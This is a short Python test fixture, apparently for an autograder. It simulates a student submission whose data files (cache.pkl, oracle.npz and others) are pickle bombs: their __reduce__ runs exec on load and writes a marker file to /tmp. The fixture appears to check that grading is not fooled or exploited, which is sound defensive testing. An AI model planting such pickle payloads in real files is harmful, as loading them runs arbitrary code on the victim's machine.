# class: 15
# claim: hands in data files that run code where they are loaded with pickle
# must: nobody but the student's own code reads them
# base: stub
# earns: nothing
# naive: -
def hand_in(folder, name, bases):
    import pickle

    class Bomb:
        def __reduce__(self):
            return exec, ("open('/tmp/owned-by-data', 'w')",)

    own = folder / name
    own.mkdir()
    (own / "hw9_slopes.ipynb").write_bytes(bases["stub"])
    for path in ("oracle.npz", "cache.pkl", "release.json", "state.npy"):
        (own / path).write_bytes(pickle.dumps(Bomb()))
